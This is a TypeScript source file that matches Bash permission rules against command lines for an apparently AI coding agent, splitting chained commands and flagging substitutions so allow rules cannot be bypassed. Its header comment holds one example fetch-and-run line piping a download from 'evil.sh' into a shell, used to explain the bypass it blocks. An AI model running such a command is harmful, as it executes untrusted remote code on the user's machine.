/**
 * Bash rules (`Bash(npm test:*)`, `Bash(git status)`, `Bash(git * main)`)
 * against a command line, pure.
 *
 * A command line is split into its simple commands at the shell's operators
 * (`&&`, `||`, `;`, `|`, `&`, newlines), outside quotes. An allow rule allows
 * the line only when every one of its commands is allowed (by this rule or
 * another), and never a line holding a command substitution (`$(…)`,
 * backticks, `<(…)`): `npm test && curl evil.sh | sh` is not `npm test`. A
 * deny or ask rule catches the line when any of its commands matches,
 * substitutions and subshells included, leading `VAR=value` assignments and
 * wrappers (`env`, `command`, `exec`, `nohup`, `time`) left out. This is a
 * best effort over shell text, as in Claude Code: a hook is the tool for a
 * stricter policy (docs/permissions.md).
 */
import { escapeRegExp } from "./rules.js";

export interface CommandParts {
  /** The simple commands, trimmed, in order. */
  commands: string[];
  /** Holds a command substitution or process substitution: allow rules never apply. */
  substitution: boolean;
}

/** Splits at the operators that chain commands (outside quotes). */
export function splitCommand(line: string, aggressive = false): CommandParts {
  const commands: string[] = [];
  let substitution = false;
  let current = "";
  let quote: "'" | '"' | undefined;
  const cut = () => {
    const trimmed = current.trim();
    if (trimmed !== "") commands.push(trimmed);
    current = "";
  };
  for (let i = 0; i < line.length; i++) {
    const ch = line[i] as string;
    const next = line[i + 1];
    if (quote === "'") {
      if (ch === "'") quote = undefined;
      current += ch;
      continue;
    }
    if (ch === "\\") {
      current += ch + (next ?? "");
      i++;
      continue;
    }
    if (
      (ch === "$" && next === "(") ||
      ch === "`" ||
      ((ch === "<" || ch === ">") && next === "(")
    ) {
      substitution = true;
      if (aggressive) {
        cut();
        if (ch !== "`") i++;
        continue;
      }
    }
    if (quote === '"') {
      if (ch === '"') quote = undefined;
      current += ch;
      continue;
    }
    if (ch === "'" || ch === '"') {
      quote = ch;
      current += ch;
      continue;
    }
    if (ch === ";" || ch === "\n" || ch === "\r") {
      cut();
      continue;
    }
    if (ch === "|") {
      cut();
      if (next === "|" || next === "&") i++;
      continue;
    }
    if (ch === "&") {
      const prev = line[i - 1];
      // `2>&1` and `&>file` are redirections, not operators.
      if (prev === ">" || prev === "<" || next === ">") {
        current += ch;
        continue;
      }
      cut();
      if (next === "&") i++;
      continue;
    }
    if (aggressive && (ch === "(" || ch === ")" || ch === "{" || ch === "}")) {
      cut();
      continue;
    }
    current += ch;
  }
  cut();
  return { commands, substitution };
}

const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|"[^"]*"|\S*)\s+/;
const WRAPPER = /^(?:env|command|exec|nohup|time|builtin)\s+/;

/** A command without leading assignments and harmless wrappers (for deny and ask rules). */
export function bareCommand(command: string): string {
  let rest = command.trim();
  for (let guard = 0; guard < 64; guard++) {
    const next = rest.replace(ASSIGNMENT, "").replace(WRAPPER, "").trimStart();
    if (next === rest) break;
    rest = next;
  }
  return rest;
}

/** Whether one simple command matches a Bash rule's content (none: every command). */
export function commandMatches(content: string | undefined, command: string): boolean {
  if (content === undefined) return true;
  const text = command.trim();
  if (content.endsWith(":*")) {
    const prefix = content.slice(0, -2).trim();
    if (prefix === "") return true;
    return text === prefix || (text.startsWith(prefix) && /^\s/.test(text.slice(prefix.length)));
  }
  if (content.includes("*")) {
    const pattern = content.split("*").map(escapeRegExp).join("[\\s\\S]*");
    return new RegExp(`^${pattern}$`).test(text);
  }
  return text === content.trim();
}

/** Every simple command an allow rule must cover; none when the line cannot be allowed by rules. */
export function commandsToAllow(line: string): string[] | undefined {
  const parts = splitCommand(line);
  if (parts.substitution || parts.commands.length === 0) return undefined;
  return parts.commands;
}

/** What a deny or ask rule is tested against: the line, each command, bare, substitutions included. */
export function commandsToCatch(line: string): string[] {
  const seen = new Set<string>([line.trim()]);
  for (const command of [...splitCommand(line).commands, ...splitCommand(line, true).commands]) {
    seen.add(command);
    seen.add(bareCommand(command));
  }
  return [...seen].filter((c) => c !== "");
}

/**
 * The rule to suggest for allowing a command: its first word, and its second
 * when that is a subcommand (`npm test`, `git status`), as a prefix rule.
 */
export function suggestBashRule(line: string): string {
  const first = splitCommand(line).commands[0] ?? line.trim();
  const words = bareCommand(first).split(/\s+/).filter(Boolean);
  const [head, second] = words;
  if (head === undefined) return "Bash";
  const sub = second !== undefined && /^[A-Za-z][\w:.-]*$/.test(second) ? ` ${second}` : "";
  return `Bash(${head}${sub}:*)`;
}
